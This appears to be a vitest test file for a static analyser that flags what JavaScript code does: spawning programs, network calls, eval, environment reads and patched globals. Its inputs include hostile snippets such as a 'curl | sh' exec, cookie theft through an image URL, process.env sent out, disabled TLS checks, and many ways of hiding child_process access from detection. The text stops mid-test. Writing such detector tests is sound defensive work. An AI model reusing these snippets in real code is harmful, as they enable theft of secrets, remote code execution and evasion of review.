import { posix } from 'node:path'
import { expect, test } from 'vitest'
import { hostOf } from './powers.ts'
import { readCode } from './read-code.ts'

/** Findings as `kind name`, without the line; `?` for an unknown name. */
const seen = (code: string) => [...new Set(factsOf(code).findings.map(({ kind, name }) => `${kind} ${name ?? '?'}`))]
function factsOf(code: string) {
  const facts = readCode(code)
  if (typeof facts === 'string') throw new Error(facts)
  return facts
}

test.for([
  [`import { spawn } from 'node:child_process'\nspawn('git', ['log'])`, ['starts-programs git']],
  [`import * as cp from 'child_process'; cp.exec('curl -s x | sh')`, ['starts-programs curl']],
  [`import cp from 'child_process'; cp.execFileSync('/usr/bin/env')`, ['starts-programs env']],
  [`const { execFile: run } = require('child_process'); run(file)`, ['starts-programs ?']],
  [
    `var import_child_process = __toESM(require("child_process")); (0, import_child_process.fork)(x)`,
    ['starts-programs ?'],
  ],
  [`const run = promisify(require('child_process').exec); run('ls')`, ['starts-programs ls']],
  [`const cp = await import('node:child_process'); cp.spawn('sh')`, ['starts-programs sh']],
  [
    `import { createRequire } from 'module'; const load = createRequire(import.meta.url); load('child_process').spawn('sh')`,
    ['starts-programs sh'],
  ],
  [`process.getBuiltinModule('node:child_process').spawn('sh')`, ['starts-programs sh']],
  [`globalThis['process']['getBuiltinModule']('child_pro' + 'cess').spawn('sh')`, ['starts-programs sh']],
  [`import { spawn } from 'child_process'; export const run = { spawn }`, ['starts-programs ?']],
  [`export { spawn } from 'child_process'`, ['starts-programs ?']],
  [`var a = __toModule(require('child_process')); a.spawn('sh')`, ['starts-programs sh']],
  [`let cp; cp = require('child_process'); use(cp)`, ['starts-programs ?']],
  [`let cp = require('os'); cp = require('child_process')`, ['starts-programs ?']],
  [`run(require('child_process')); run(await import('child_process'))`, ['starts-programs ?']],
  [`import('child_process').then(({ spawn }) => spawn('sh'))`, ['starts-programs ?']],
  [`module.exports = require('child_process')`, ['starts-programs ?']],
  [`process.mainModule.require('child_process').exec('ls')`, ['starts-programs ls']],
  [`import { execa } from 'execa'; await execa('npm')`, ['starts-programs npm']],
  [`process.execve('/bin/sh', ['sh'])`, ['starts-programs sh']],
  [`import open from 'open'; open('https://a.dev/x')`, ['starts-programs ?']],
  [
    `import cp from 'child_process'; cp.exec('who;'); cp.exec('"C:\\\\a b\\\\c.exe" -x')`,
    ['starts-programs who', 'starts-programs c.exe'],
  ],
] as const)('sees that code starts programs: %s', ([code, expected]) => {
  expect(seen(code)).toEqual(expected)
})

test.for([
  // A name in another function is another name.
  [`import { spawn as e } from 'child_process'; function f(e) { e('git') }`, []],
  [`import { spawn as e } from 'child_process'; function f() { const e = g; { e('git') } }`, []],
  [`import { spawn } from 'child_process'; const o = { spawn: 1 }; o.spawn; label.spawn()`, []],
  [`// spawn('git')\nconst text = "require('child_process')"`, []],
  [`import type_only from './x.js'; type_only.exec('a')`, []],
  [`if (typeof fetch === 'undefined') throw 1`, []],
  [`new Worker('./a.js'); new Worker(new URL('./w.js', import.meta.url))`, []],
  [`location.hash = x; location.href = '/login'; use(location.search, location)`, []],
  [`const rpc = { fetch() {} }; rpc.fetch('https://a.dev')`, ['network a.dev']],
  [`validator.require(field); function require(x) {} require(1 + x)`, []],
  [`process.env.NODE_ENV; process.exit(1); process.cwd()`, []],
  [`const root = Function('return this')(); new Function(''); x instanceof Function`, []],
  [`require('child_process'); import 'child_process'; await import('child_process')`, []],
  [`process.env = {}`, []],
  [`setTimeout(() => {}, 1); setTimeout(run, 1)`, []],
  [`fetch('/api/x'); fetch(\`/api/\${id}\`); fetch('./x.json'); const B = '/p'; fetch(B + x)`, []],
  [`const a = 'http://www.w3.org/2000/svg', b = 'http://localhost:3000', c = 'https://example.com'`, []],
  [`if (process.getBuiltinModule) process.getBuiltinModule('os'); const a = c && require && require('os')`, []],
  [`typeof process.getBuiltinModule === 'function'; require !== undefined; require.main === module; !require`, []],
  [`import { createRequire } from 'module'; const require = createRequire(import.meta.url); require('./a.js')`, []],
  // The factory of a module of the form UMD, whose own `require` is followed.
  [
    `(function (factory) { if (typeof module === 'object') { var v = factory(require, exports) } })(function (require, exports) { require('./a.js') })`,
    [],
  ],
  [`const apply = (self, name) => self[name]; const module = {}; module[x]; a.global[name]`, []],
  [`require(path.join(__dirname, 'package.json')); const p = __dirname + '/a.js'; require(p)`, ['loads-code ?']],
  [`const path = require('path'); require(path.join(__dirname, 'package.json')); require(__dirname + '/a.js')`, []],
  [`process.env && process.env.NODE_ENV; if (!process.env) throw 1`, []],
  [`module.exports = { a: 1 }; module.exports.b = 1; exports.c = module.id`, []],
  [`const name = './a.js'; require(name); var file = c ? './a.js' : './b.js'; require(file)`, []],
] as const)('does not take other code for it: %s', ([code, expected]) => {
  expect(seen(code)).toEqual(expected)
})

test.for([
  [`import fs from 'fs'; fs.readFileSync('a'); fs.existsSync('b')`, []],
  [`import { readFile } from 'node:fs/promises'; await readFile('a')`, []],
  [`import { promises as fs } from 'fs'; await fs.writeFile('a', '')`, ['writes-files ?']],
  [`const fs = require('fs').promises; fs.rm('a')`, ['writes-files ?']],
  [`import fs from 'fs'; use(fs)`, ['writes-files ?']],
  [`import fs from 'fs'; fs[name]('a')`, ['writes-files ?']],
  [`import fs from 'fs'; fs.openSync('a', 'r'); fs.closeSync(1)`, []],
  [`import fs from 'fs'; fs.openSync('a', 'w')`, ['writes-files ?']],
  [
    `import { open } from 'fs/promises'; import { constants } from 'fs'; open('a', constants.O_RDONLY | constants.O_NONBLOCK)`,
    [],
  ],
  [`import { open, constants } from 'fs'; open('a', constants.O_RDONLY | constants.O_CREAT)`, ['writes-files ?']],
  [`import { open } from 'fs'; const O_RDONLY = 'w'; open('a', O_RDONLY)`, ['writes-files ?']],
  [`import Conf from 'conf'; new Conf({ projectName: 'a' })`, ['writes-files ?']],
] as const)('tells reading from writing: %s', ([code, expected]) => {
  expect(seen(code)).toEqual(expected)
})

test.for([
  [`fetch('https://api.a.dev/v1?x=1')`, ['network api.a.dev']],
  [`const BASE = 'https://api.a.dev'; fetch(\`\${BASE}/v1/\${id}\`)`, ['network api.a.dev']],
  [`const A = 'https://a.dev/{id}'; globalThis.fetch(A.replace('{id}', id))`, ['network a.dev']],
  [`fetch(new URL('/v1', 'https://a.dev'))`, ['network a.dev']],
  [`const u = new URL('https://a.dev'); fetch(u.href)`, ['network a.dev']],
  [`fetch('https://good.dev@evil.dev/')`, ['network evil.dev']],
  [`fetch(url)`, ['network ?']],
  [`const go = options.fetch ?? fetch; go(url)`, ['network ?']],
  [`new WebSocket('wss://a.dev')`, ['network a.dev']],
  [`location.href = 'https://a.dev/' + x`, ['network a.dev']],
  [`window.location.replace(u); location = u`, ['network ?']],
  [`navigator.sendBeacon('https://a.dev/x', data)`, ['network a.dev']],
  [`import https from 'https'; https.get('https://a.dev'); new https.Agent()`, ['network a.dev']],
  [`import { createServer } from 'http'; createServer().listen(1)`, ['listens ?']],
  [`import express from 'express'; const app = express(); app.listen(3000)`, ['listens ?']],
  [`import { serve } from '@hono/node-server'; serve(app)`, ['listens ?']],
  [`import { getRequestListener } from '@hono/node-server'; getRequestListener(app); events.listen(name)`, []],
  [`const url = (path) => { return host + path }; let host = 'https://a.dev'; fetch(url('/users'))`, ['network a.dev']],
  [`new options.WebSocket('wss://a.dev'); new (this.wrtc.RTCPeerConnection)(config)`, ['network a.dev', 'network ?']],
  [`import axios from 'axios'; axios.post('https://a.dev')`, ['network a.dev']],
  [`const html = '<img src="https://cdn.a.dev/x.png">'`, []],
] as const)('sees whom it talks to: %s', ([code, expected]) => {
  expect(seen(code)).toEqual(expected)
})

test.for([
  [`eval(x)`, ['runs-text ?']],
  [`(0, eval)(x)`, ['runs-text ?']],
  [`const e = eval; e(x)`, ['runs-text ?']],
  [`new Function('a', body)`, ['runs-text ?']],
  [`Function.apply(this, ['a', body])`, ['runs-text ?']],
  [`new (Function.bind(null, 'a', body))()`, ['runs-text ?']],
  [`setTimeout('run()', 1)`, ['runs-text ?']],
  // Text that is known is read: it sees only globals.
  [`Function('r', 'regenerator = r')(x); new Function('return 2n ** 32n')()`, []],
  [`new Function('module', 'return import(module)')`, ['loads-code ?']],
  [`Function('p', 'return p.mainModule')(process)`, ['anything process']],
  [`import vm from 'vm'; vm.runInNewContext(x)`, ['runs-text ?']],
  [`import('data:text/javascript,run()')`, ['runs-text ?']],
  [`import(name); require(name)`, ['loads-code ?']],
  [`import(\`./locales/\${x}.js\`)`, []],
  [`process.dlopen(m, f); process.binding('fs')`, ['native-code ?']],
  [`await WebAssembly.instantiate(bytes)`, ['native-code WebAssembly']],
  [
    `const { TOKEN, ...rest } = process.env; use(TOKEN); process.env.A; process.env[k]; const { env } = process; env.B`,
    ['environment TOKEN', 'environment A', 'environment ?', 'environment B'],
  ],
  [`const v = process.env[k]; v.startsWith('a')`, ['environment ?']],
  [`require('bindings')('a.node')`, ['native-code ?']],
  [`export const token = process.env.TOKEN`, ['environment TOKEN']],
  [`process.env.hasOwnProperty('TOKEN')`, ['environment TOKEN']],
  [`import { env } from 'node:process'; env.HOME`, ['environment HOME']],
] as const)('sees what it runs and reads of its surroundings: %s', ([code, expected]) => {
  expect(seen(code)).toEqual(expected)
})

test.for([
  [`require('net').connect('/var/run/docker.sock')`, ['network /var/run/docker.sock', 'starts-programs docker']],
  [
    `import http from 'http'; http.request({ socketPath: '/run/podman/podman.sock', path: '/containers/create' })`,
    ['network /run/podman/podman.sock', 'starts-programs docker'],
  ],
  [`new Docker({ socketPath: '/var/run/docker.sock' })`, ['starts-programs docker']],
  [`import Docker from 'dockerode'; new Docker().createContainer({})`, ['starts-programs ?']],
  [`import puppeteer from 'puppeteer-core'; await puppeteer.launch({ args })`, ['starts-programs puppeteer-core']],
  [`import { chromium } from 'playwright'; chromium.launch()`, ['starts-programs playwright']],
  [`import { PUPPETEER_REVISIONS } from 'puppeteer'; use(PUPPETEER_REVISIONS)`, []],
  [`import { simpleGit } from 'simple-git'; simpleGit().clone(u)`, ['starts-programs ?']],
  [`import { Client } from 'ssh2'; new Client().connect({ host: 'a.dev' })`, ['network ?']],
] as const)('sees what starts or reaches programs by other ways than Node’s own: %s', ([code, expected]) => {
  expect(seen(code)).toEqual(expected)
})

test.for([
  [`new Image().src = 'https://a.dev/x?' + document.cookie`, ['network a.dev', 'reads-page cookies']],
  [`const i = document.createElement('img'); i.src = u`, ['network ?']],
  [`const f = document.createElement('iframe'); f.setAttribute('src', 'https://a.dev')`, ['network a.dev']],
  [`const form = document.createElement('form'); form.action = 'https://a.dev/x'; form.submit()`, ['network a.dev']],
  [`window.open('https://a.dev/' + x); new RTCPeerConnection(y)`, ['network a.dev', 'network ?']],
  [`navigator.clipboard.readText().then(send)`, ['reads-page clipboard']],
  [`element.setAttribute('onclick', x)`, ['runs-text ?']],
  [`const a = document.createElement('a'); a.href = 'https://a.dev'; const i = new Image(); i.src = '/logo.png'`, []],
] as const)('sees what a page half sends and reads without a request of its own: %s', ([code, expected]) => {
  expect(seen(code)).toEqual(expected)
})

test.for([
  [`Array.prototype.map = f`, ['changes-others Array.prototype.map']],
  [`const p = String.prototype; p.split = f`, ['changes-others String.prototype.split']],
  [`Object.defineProperty(Function.prototype, 'call', { value: f })`, ['changes-others Function.prototype.call']],
  [`window.fetch = f; JSON.parse = f`, ['changes-others fetch', 'changes-others JSON.parse']],
  [`require('fs').readFile = f`, ['changes-others fs.readFile']],
  [`shimmer.wrap(require('http'), 'request', f)`, ['changes-others http.request', 'network ?']],
  [`Object.assign(globalThis, { fetch: f, mine: 1 })`, ['changes-others fetch']],
  [`Object.assign(globalThis, x)`, ['changes-others globalThis']],
  [`Array.prototype.map.call(x, f); Mine.prototype.map = f; const { fetch = f } = x`, []],
] as const)('sees what is replaced that other code uses: %s', ([code, expected]) => {
  expect(seen(code)).toEqual(expected)
})

test.for([
  [`ctx.get('credentials')?.read()`, ['service credentials']],
  [`ctx.get(name); ctx.get('tools'); map.get('a'); headers.get('Referrer'); config.get('shell')`, []],
  [`ctx.on('approval/request', () => 'allowed-once')`, ['service approval']],
  [`socket.on('close', end); emitter.on('job/done', end)`, []],
] as const)('sees which services of the harness it takes by name, or hears: %s', ([code, expected]) => {
  expect(seen(code)).toEqual(expected)
})

test.for([
  [`import cp from 'child_process'; try {} catch (cp) {} cp.exec('ls')`, ['starts-programs ls']],
  [`{ const process = 1 } process.env.TOKEN`, ['environment TOKEN']],
  [`const { a = eval(x) } = y`, ['runs-text ?']],
  [`const { [eval(x)]: a } = y`, ['runs-text ?']],
  [`const load = require; load('child_process').exec('ls')`, ['starts-programs ls']],
  [`use(require)`, ['anything require']],
  [`exports.load = require`, ['anything require']],
  [`require.call(null, x)`, ['loads-code ?']],
  [`globalThis[name](x); module[name](x)`, ['anything globalThis', 'anything module']],
  [`import { Worker } from 'worker_threads'; new Worker(x, { eval: true })`, ['runs-text ?']],
  [`(() => {}).constructor(x)(); new (f.constructor.constructor)(x)`, ['runs-text ?']],
  // A loader keeps its meaning under another name.
  [`import { createRequire as make } from 'module'; make(x)('child_process').exec('ls')`, ['starts-programs ls']],
  [`const m = require('node:module'); m.createRequire(x)('child_process').exec('ls')`, ['starts-programs ls']],
  [`const { createRequire: make } = await import('module'); const r = make(x); r(name)`, ['loads-code ?']],
  [`const { getBuiltinModule: get } = process; get('child_process').exec('ls')`, ['starts-programs ls']],
  [`import { getBuiltinModule } from 'process'; getBuiltinModule('child_process').exec('ls')`, ['starts-programs ls']],
  [`const load = process.getBuiltinModule; load(name)`, ['loads-code ?']],
  [`const { _load: load } = require('module'); load('child_process').exec('ls')`, ['starts-programs ls']],
  [`import Module from 'module'; Module._load(name)`, ['loads-code ?']],
  [`const { require: load } = module; load('child_process').exec('ls')`, ['starts-programs ls']],
  // A module of CommonJS leads to all others.
  [`module.constructor._load('child_process').exec('ls')`, ['anything module']],
  [`require.main.require('child_process').exec('ls')`, ['starts-programs ls']],
  [`const { mainModule } = process; mainModule.require('child_process').exec('ls')`, ['starts-programs ls']],
  [`globalThis.require('child_process').exec('ls')`, ['starts-programs ls']],
  [`export const load = require`, ['anything require']],
  [`export const { exec } = require('child_process')`, ['starts-programs ?']],
  [`const o = { load: require }; o.load(x)`, ['anything require']],
  [`use(process.getBuiltinModule); use(createRequire)`, ['anything require']],
  [`import { createRequire } from 'module'; use(createRequire)`, ['anything require']],
  [`process[name]('child_process')`, ['anything process']],
  [`(function (factory) { factory(require, exports) })(function (r) { r('fs').rmSync('a') })`, ['writes-files ?']],
  [`const path = require('path'); require(path.join(__dirname, x))`, []],
  [`const go = fetch.bind(globalThis); eval.call(null, x); Function.apply(null, y)`, ['network ?', 'runs-text ?']],
  [`if ('CI' in process.env) go()`, ['environment CI']],
  [`import { env } from 'process'; 'TOKEN' in env`, ['environment TOKEN']],
  [`const p = require('path'); (0, p.resolve)(x); require((0, p.join)(__dirname, 'a.js'))`, []],
  // Default values do not see what the body declares.
  [`function f(a = process) { var process; return a[x] } f()`, ['anything process']],
  [`require('module').prototype.require.call(module, x)`, ['loads-code ?']],
  [`new Module('a')._compile(text, 'a')`, ['runs-text ?']],
  // The name of a module that is put together.
  [`require('child_'.concat('process')).exec('ls')`, ['starts-programs ls']],
  [`require('child-process'.replace('-', '_'))`, ['loads-code child-process…']],
  [`require('child_'.concat(x))`, ['loads-code child_…']],
  [`require(c ? './a.js' : 'child_process').exec('ls')`, ['starts-programs ?']],
  [`const name = c ? './a.js' : 'child_process'; require(name)`, ['starts-programs ?']],
  [`require(c ? './a.js' : x)`, ['loads-code ?']],
  [`let name = './a.js'; name = x; require(name)`, ['loads-code ?']],
  [`require(['child', 'process'].join('_'))`, ['loads-code ?']],
  [
    `const a = b ? './a.js' : './b.js', c = b ? a : a, d = b ? c : c, e = b ? d : d, f = b ? e : 'child_process'; require(f)`,
    ['starts-programs ?'],
  ],
  // What stands beside a module.
  [`require('fs', eval(x)); const a = require('fs') ?? eval(x)`, ['runs-text ?']],
  [`const b = promisify(require('fs').stat, eval(x)); require('fs')[eval(x)]`, ['runs-text ?', 'writes-files ?']],
] as const)('is not blinded by ordinary ways to write code: %s', ([code, expected]) => {
  expect(seen(code)).toEqual(expected)
})

test.for([
  [`(g => g.process.getBuiltinModule('child_process').exec('ls'))(globalThis)`, ['starts-programs ls']],
  [
    `!function (root) { root.fetch('https://a.dev'); root.process.env.TOKEN }(typeof globalThis !== 'undefined' ? globalThis : this)`,
    ['network a.dev', 'environment TOKEN'],
  ],
  [`(function (root) { root.process.env.TOKEN }).call(this, globalThis)`, ['environment TOKEN']],
  [`Reflect.get(globalThis, 'pro' + x)`, ['anything globalThis']],
  [`Object.assign({}, globalThis).process`, ['anything globalThis']],
  [`run(global); has(globalThis); run.call(null, globalThis)`, ['anything globalThis']],
  [`const has = (g) => g; has(globalThis).process.env.A`, ['environment A']],
  [`Object.assign.call(null, {}, globalThis)`, ['anything globalThis']],
  [`Reflect.construct(Function, ['return process'])`, ['anything Function']],
  [`Reflect.apply(fetch, null, ['https://a.dev'])`, ['network ?']],
  [`const F = (() => {}).constructor; F('return process')()`, ['anything process']],
  ['Function`return process`', ['anything process']],
  [`const { constructor: F } = () => {}; F('return process')()`, ['anything process']],
  [`arguments[1]('child_process').exec('ls')`, ['starts-programs ls']],
  [`new require('child_process')`, ['starts-programs ?']],
  [`const s = document.createElement('script'); s.src = u`, ['loads-code ?']],
  [`use({ ...globalThis })`, ['anything globalThis']],
  [`with (globalThis) { run(x) }`, ['anything globalThis']],
  [`class X extends WebSocket {} new X(u)`, ['network ?']],
  [`go(WebSocket, u)`, ['network ?']],
  [`setTimeout.call(null, 'run()')`, ['runs-text ?']],
  [`importScripts(u)`, ['loads-code ?']],
  [`module.parent.require('child_process').exec('ls')`, ['anything module']],
  [`module.children[0].require('child_process').exec('ls')`, ['anything module']],
  [`require.extensions['.txt'] = require.extensions['.js']`, ['loads-code ?']],
  [`require('module').register(x); require('module').registerHooks({})`, ['loads-code ?']],
  [`const i = require('inspector'); new i.Session().post('Runtime.evaluate', x)`, ['runs-text ?']],
  [`const { DatabaseSync } = require('node:sqlite'); new DatabaseSync('a')`, ['writes-files ?']],
  [`require('node:test').run({ files: [x] })`, ['loads-code ?']],
  [`new Worker(URL.createObjectURL(blob))`, ['loads-code ?']],
  [`require('repl').start().eval(x)`, ['runs-text ?']],
  [`require('v8').writeHeapSnapshot('a')`, ['writes-files ?']],
  [`new (require('wasi').WASI)({ preopens: {} })`, ['native-code ?']],
] as const)('sees what code does through what it passes on, and in rarer modules: %s', ([code, expected]) => {
  expect(seen(code)).toEqual(expected)
})

test.for([
  // A name that stands for more than one value.
  [
    `const f = (g) => g.process?.exit(x); f(require('os')); f(globalThis); f(require('child_process'))`,
    'starts-programs',
  ],
  [`const f = ({ exec }) => exec?.('ls'); f(require('os')); f(require('child_process'))`, 'starts-programs'],
  [`const id = (x) => x; const a = id(require('os')); const b = id(require('child_process'))`, 'starts-programs'],
  [
    `const f = () => { if (a) return require('os'); return require('child_process') }; f().exec('ls')`,
    'starts-programs',
  ],
  [`let x; ({ x } = require('os')); ({ process: x } = globalThis); x.getBuiltinModule(y)`, 'anything'],
  [`const g = require('os').none || globalThis; g.process.getBuiltinModule(y)`, 'loads-code'],
  [`const g = require('child_process') || globalThis; go(g)`, 'starts-programs'],
  [`function f(a) { arguments[0].exec('ls') } f(require('child_process'))`, 'starts-programs'],
  [`function f() { this.exec('ls') } f.call(require('child_process'))`, 'starts-programs'],
  [`let f = (g) => {}; f = other; f(globalThis)`, 'anything'],
  [`let g = window; g = globalThis; go(g)`, 'anything'],
  [`const g = window || globalThis; go(g)`, 'anything'],
  [`const f = () => { if (a) return self; return globalThis }; const g = f(); go(g)`, 'anything'],
  [`const g = a ? window : globalThis; go(g)`, 'anything'],
  // What bundlers write around a module: each of them is followed.
  [
    `var __toESM = (m) => copy({}, m); const a = __toESM(require('os')), b = __toESM(require('child_process')); b.exec('ls')`,
    'starts-programs',
  ],
  // A parameter that the wrapper of a module of CommonJS has.
  [`var require; if (0) require = 1; require('child_process').exec('ls')`, 'starts-programs'],
  [`(function (a, b) { b('child_process') })(...arguments)`, 'anything'],
  [`const [, load] = arguments; load('child_process')`, 'anything'],
  [`require.cache[x].require('child_process').exec('ls')`, 'starts-programs'],
  [`module.require.main.require('child_process').exec('ls')`, 'anything'],
  // A script that has other code than the same text has as a module.
  [`var x = 1, y = 1; x\n<!--y; /*\nrequire('child_process').exec('ls')\n//*/`, 'starts-programs'],
  [`globalThis.await = 1; var a = 1, g = 1; await /a; require('child_process').exec('ls') /g`, 'starts-programs'],
  [`var await = 1, a = 1, g = 1; await /a; require('child_process').exec('ls') /g`, 'starts-programs'],
  // Other ways to the same.
  [`import run from 'data:text/javascript,export default 1'`, 'runs-text'],
  [`export * from 'data:text/javascript,export default 1'`, 'runs-text'],
  [`new (Object.getPrototypeOf(async () => {}).constructor)(x)()`, 'runs-text'],
  [`import Module from 'module'; new Module('a').require('child_process')`, 'loads-code'],
  [`export { default } from 'module'`, 'loads-code'],
  [`import * as w from 'worker_threads'; new w[x](y)`, 'loads-code'],
  [`Object.getOwnPropertyDescriptor(globalThis, 'fetch').value(u)`, 'anything'],
  [`Object.defineProperty(globalThis, 'a', {}).fetch('https://a.dev')`, 'network'],
  [`new (require('http').ClientRequest)(u)`, 'network'],
  [`new (require('_http_client').ClientRequest)(u); require('_tls_wrap').connect(443, 'a.dev')`, 'network'],
  [`import http from 'http'; new http.Agent().createConnection({ host: 'a.dev' })`, 'network'],
  [`import http from 'http'; http.globalAgent.createConnection({ host: 'a.dev' })`, 'network'],
  [`fetch('/\\\\a.dev/x')`, 'network'],
  [`fetch('/\\t/a.dev/x')`, 'network'],
  [`document.location = 'https://a.dev'; document.defaultView.open(u)`, 'network'],
  [`location.href = 'javascript:run()'`, 'runs-text'],
  [`const s = document.createElement('script'); s.textContent = x`, 'runs-text'],
  [`const s = document.createElementNS('http://www.w3.org/1999/xhtml', 'script'); s.src = u`, 'loads-code'],
  [`const s = document.createElement(a ? 'a' : b ? 'img' : 'script'); s.src = u`, 'loads-code'],
  [`var module; module.require('child_process').exec('ls')`, 'starts-programs'],
  [`const f = ({ TOKEN }) => send(TOKEN); f(process.env)`, 'environment'],
  [`class A { static { this.inject = ['credentials'] } }`, 'service'],
  [`var require = Function; require('return fetch("https://a.dev")')()`, 'network'],
  [`let e = eval; (e ||= 0)(x)`, 'anything'],
  // What is followed through a function of another file, which gets more than that.
  [`import { b } from './b.js'; const a = b.createElement(require('child_process'))`, 'starts-programs'],
  [`import { interop } from './b.js'; const a = interop(require('os'), require('child_process'))`, 'starts-programs'],
  [`import { promisify } from 'util'; use(promisify(require('child_process').exec))`, 'starts-programs'],
  [`import { __importStar } from 'tslib'; use(__importStar(require('child_process')))`, 'starts-programs'],
  // A member that is chosen among several.
  [`const m = require('fs')[a ? 'readFileSync' : 'rmSync']; m(x)`, 'writes-files'],
  [`const { [a ? 'readFileSync' : 'rmSync']: m } = require('fs'); m(x)`, 'writes-files'],
  [`process[a ? 'version' : 'mainModule'].require('child_process').exec('ls')`, 'anything'],
  [`globalThis[a ? 'console' : x](y)`, 'anything'],
  [`globalThis[k.for(x)](y)`, 'anything'],
  [`let k = Symbol(); [k] = x; globalThis[k](y)`, 'anything'],
  [`const e = globalThis[a ? 'console' : 'eval']; e(x)`, 'anything'],
] as const)('misses nothing that is hidden on purpose: %s', ([code, kind]) => {
  expect(factsOf(code).findings.map((one) => one.kind)).toContain(kind)
})

test.for([
  [`fetch(a ? 'https://a.dev' : 'https://b.dev')`, ['network a.dev', 'network b.dev']],
  [`const f = (u) => fetch(u); f('https://a.dev'); f('https://b.dev')`, ['network a.dev', 'network b.dev']],
  [`const u = x || 'https://a.dev'; fetch(u)`, ['network ?', 'network a.dev']],
  [`let u = 'https://a.dev'; if (b) u = x; fetch(u)`, ['network a.dev', 'network ?']],
  [
    `let p; if (a) p = 'open'; else p = x; require('child_process').spawn(p)`,
    ['starts-programs open', 'starts-programs ?'],
  ],
  [`const get = (k) => process.env[k]; get('HOME'); get('TOKEN')`, ['environment HOME', 'environment TOKEN']],
  [`require('fs')[a ? 'readFileSync' : 'rmSync'](b)`, ['writes-files ?']],
  [`require('fs').openSync(a, b ? 'r' : 'w')`, ['writes-files ?']],
  [`require('https').get({ hostname: a ? 'a.dev' : 'b.dev' })`, ['network a.dev', 'network b.dev']],
  [`require('https').get({ host: 'a.dev', hostname: 'b.dev' })`, ['network a.dev', 'network b.dev']],
  [`require('https').get({ host: 'a.dev', hostname: x })`, ['network a.dev', 'network ?']],
  [`require('axios')({ baseURL: 'https://a.dev', url: 'https://b.dev/x' })`, ['network a.dev', 'network b.dev']],
  [`rpc.get(a ? 'https://a.dev' : x)`, ['network a.dev', 'network ?']],
  // A variable of the file is no address.
  [`let place = location; place = place || x`, []],
] as const)('names everything that a value can be, and says that it can be more: %s', ([code, expected]) => {
  expect(seen(code)).toEqual(expected)
})

const COPY = `var __create = Object.create; var __defProp = Object.defineProperty; var __getProtoOf = Object.getPrototypeOf;
var __getOwnPropDesc = Object.getOwnPropertyDescriptor; var __getOwnPropNames = Object.getOwnPropertyNames;
var __hasOwnProp = Object.prototype.hasOwnProperty;
var __copyProps = (to, from, except, desc) => {
  if (from && typeof from === "object" || typeof from === "function") {
    for (let key of __getOwnPropNames(from))
      if (!__hasOwnProp.call(to, key) && key !== except)
        __defProp(to, key, { get: () => from[key], enumerable: !(desc = __getOwnPropDesc(from, key)) || desc.enumerable });
  }
  return to;
};
var __toESM = (mod, isNodeMode, target) => (target = mod != null ? __create(__getProtoOf(mod)) : {}, __copyProps(
  // If the importer is in node compatibility mode
  isNodeMode || !mod || !mod.__esModule ? __defProp(target, "default", { value: mod, enumerable: true }) : target,
  mod
));\n`
test('takes what bundlers write around a module for no use of all of it', () => {
  const uses = (code: string) =>
    seen(`${code}var import_fs = __toESM(require("fs")); import_fs.default.readFileSync(a)`)
  expect(uses(COPY)).toEqual([])
  expect(seen(`${COPY}var fs = __toESM(require("fs")); fs.default.rmSync(a)`)).toEqual(['writes-files ?'])
  // What is like it, and does more.
  for (const [from, to] of [
    ['return to;', 'from.rmSync(x); return to;'],
    ['Object.create;', '(x) => send(x);'],
    ['Object.create;', 'Mine.create;'],
    ['= Object.prototype.', '= mine.prototype.'],
    ['var __create', 'var Object = mine; var __create'],
    ['var __toESM', '__create = send; var __toESM'],
    ['node compatibility mode', 'node compatibility mode \u2028 send(mod),'],
  ] as const)
    expect(uses(COPY.replace(from, to)), to).toContain('writes-files ?')
  // Signs of a comment within a text hide nothing.
  expect(uses(COPY.replace('=== "object"', '=== "object/*" || eval(x) || "*/"'))).toContain('runs-text ?')
})

test.for([
  `__copyProps({}, require('fs')).rmSync(a)`,
  `const fs = __copyProps({}, require('fs')); fs.rmSync(a)`,
  `var copy = ${/\(mod,[^;]+/.exec(COPY)![0]}; copy(require('fs')).rmSync(a)`,
  `var __reExport = (target, mod) => (__copyProps(target, mod, "default"), target); __reExport(a, require('fs'))`,
])('sees a module that such a function copies where its result is not followed: %s', (code) => {
  expect(seen(`${COPY}${code}`)).toEqual(['writes-files ?'])
})

test.for([
  [`export const inject = ['subprocess']`, ['starts-programs ?']],
  [
    `export const inject = ['shell', 'codeRuntime']; export const apply = (c) => f(c)`,
    ['starts-programs ?', 'runs-text ?'],
  ],
  [`ctx.plugin({ inject: { fs: true }, apply: ({ fs }) => fs.writeText(target, text) })`, ['writes-files ?']],
  [`function apply(c) { c.inject(['credentials'], (c) => { const { credentials } = c }) }`, ['service credentials']],
  [`this.ctx.subprocess.spawn(spec); ctx.shell.sandboxMode(x)`, ['starts-programs ?']],
  [`ctx.shell.run(spec)`, ['starts-programs ?']],
  [`ctx.codeRuntime.run(request)`, ['runs-text ?']],
  [`ctx.fs.writeText(target, text); ctx.fs.readText(target)`, ['writes-files ?']],
  [`ctx.http.get(url)`, ['network ?']],
  [`this.bot.ctx.http.ws(url)`, ['network ?']],
  [`const http = ctx.http; http.get(url)`, ['network ?']],
  [`const { http } = ctx; http.get(url)`, ['network ?']],
  [`this.http = ctx.http.extend({ endpoint: 'https://a.dev' })`, ['network a.dev']],
  [`ctx.http.get('https://a.dev/x'); other.shell.run(x); map.http.get(y)`, ['network a.dev']],
] as const)('sees what a plugin does through a service of the harness: %s', ([code, expected]) => {
  expect(seen(code)).toEqual(expected)
})

test.for([
  [`process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'`, ['changes-others process.env.NODE_TLS_REJECT_UNAUTHORIZED']],
  [`import p from 'process'; p.env.NODE_OPTIONS = x; p.env.MINE = y`, ['changes-others process.env.NODE_OPTIONS']],
  [`process.emit = f; process.title = 'a'; process.exitCode = 1`, ['changes-others process.emit']],
  [`require('module').prototype._compile = f`, ['changes-others module.prototype._compile']],
  [
    `import { readEnv } from './env.js'; readEnv('API_TOKEN'); (0, env_1.getEnv)('KEY'); getEnv(x); env('a')`,
    ['environment API_TOKEN', 'environment KEY'],
  ],
  [`import { launch } from '@puppeteer/browsers'; launch(x)`, ['starts-programs @puppeteer/browsers']],
  [`const { realImport } = require('real-require'); realImport(x)`, ['loads-code ?']],
  [`import OpenAI from 'openai'; new OpenAI()`, ['network ?']],
  [`export * from '@redis/client'`, ['network ?']],
  [`document.write('<script src="https://a.dev/x.js"></script>')`, ['runs-text ?']],
  [`navigator.mediaDevices.getUserMedia({ audio: true })`, ['reads-page microphone']],
  [`navigator.mediaDevices.getUserMedia(x)`, ['reads-page camera', 'reads-page microphone']],
  [`send(JSON.stringify(process.env))`, ['environment *', 'environment ?']],
] as const)('sees what else changes or reaches far: %s', ([code, expected]) => {
  expect(seen(code)).toEqual(expected)
})

test.for([
  [`new (require('https').Agent)({ rejectUnauthorized: false })`, ['unverified ?']],
